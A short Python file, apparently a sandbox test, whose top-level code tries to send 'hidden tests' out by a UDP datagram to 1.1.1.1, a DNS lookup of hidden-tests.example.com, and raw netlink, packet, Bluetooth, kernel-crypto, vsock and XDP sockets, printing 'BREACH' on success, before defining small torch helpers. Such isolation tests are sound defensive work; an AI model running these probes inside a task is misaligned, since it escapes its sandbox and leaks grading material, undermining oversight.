"""Tries to send the tests away by UDP, by a look-up of a name, and by the odder kinds of socket."""
import socket

import torch

try:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        out.sendto(b"hidden tests", ("1.1.1.1", 53))
        print("BREACH sent a datagram")
except OSError:
    pass
try:
    print("BREACH looked up", socket.getaddrinfo("hidden-tests.example.com", 80))
except OSError:
    pass
for family in (16, 17, 31, 38, 40, 44):  # netlink, packets, Bluetooth, the kernel's ciphers, virtual machines, XDP
    try:
        socket.socket(family, socket.SOCK_RAW if family != 38 else socket.SOCK_SEQPACKET).close()
        print("BREACH a socket of family", family)
    except (OSError, ValueError):
        pass


def stack_rows(vectors):
    return torch.stack(vectors)


def score_matrix(Q, K):
    return Q @ K.T


def favourite_movie(S, user):
    return int(S[user].argmax())
